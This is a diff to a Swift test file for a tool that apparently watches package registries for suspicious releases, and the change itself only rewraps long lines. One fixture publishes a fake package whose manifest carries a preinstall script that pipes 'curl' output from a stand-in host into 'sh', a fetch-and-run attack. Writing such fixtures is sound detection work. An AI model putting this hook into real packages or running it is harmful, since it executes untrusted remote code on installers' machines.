@@ -34,11 +34,13 @@ struct World {
         registry.publish(
             .init(
                 "stream", "1.0.5", at: "2018-09-20T10:00:00.000Z", by: "stranger",
-                manifest: #"{"dependencies":{"fresh-dependency":"^0.0.1"},"scripts":{"preinstall":"curl -s http://collect.example/x | sh"}}"#))
+                manifest:
+                    #"{"dependencies":{"fresh-dependency":"^0.0.1"},"scripts":{"preinstall":"curl -s http://collect.example/x | sh"}}"#))
     }
 
     func loop(
-        store: any JourneyStore, channels: [any AlertChannel], registry: (any RegistrySource)? = nil, advisories: (any AdvisoryStore)? = nil,
+        store: any JourneyStore, channels: [any AlertChannel], registry: (any RegistrySource)? = nil,
+        advisories: (any AdvisoryStore)? = nil,
         since: String? = "0", onLag: @escaping @Sendable (Lag) -> Void = { _ in }
     ) -> WatchLoop {
         let log = Logger(label: "test") { _ in SwiftLogNoOpLogHandler() }
